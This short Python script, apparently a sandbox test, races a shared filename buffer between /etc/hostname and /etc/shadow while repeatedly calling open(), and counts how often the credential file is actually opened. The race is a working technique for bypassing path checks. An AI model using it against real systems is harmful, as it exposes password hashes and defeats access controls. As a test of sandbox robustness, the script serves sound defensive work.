"""Opens a file while another thread changes its name under the kernel's hands; until the other file was opened."""
import ctypes
import os
import sys
import threading
import time

libc = ctypes.CDLL(None)
harmless, secret = b"/etc/hostname\0", b"/etc/shadow\0\0\0"
name = ctypes.create_string_buffer(harmless, len(harmless))
done = False


def rewrite():
    while not done:
        ctypes.memmove(name, secret, len(harmless))
        ctypes.memmove(name, harmless, len(harmless))


threading.Thread(target=rewrite, daemon=True).start()
sys.setswitchinterval(1e-6)
end = time.monotonic() + 15
opened = 0
while opened < 3 and time.monotonic() < end:
    fd = libc.open(name, os.O_RDONLY)
    if fd >= 0:
        opened += os.readlink(f"/proc/self/fd/{fd}") == "/etc/shadow"
        os.close(fd)
done = True
sys.exit(opened == 0)
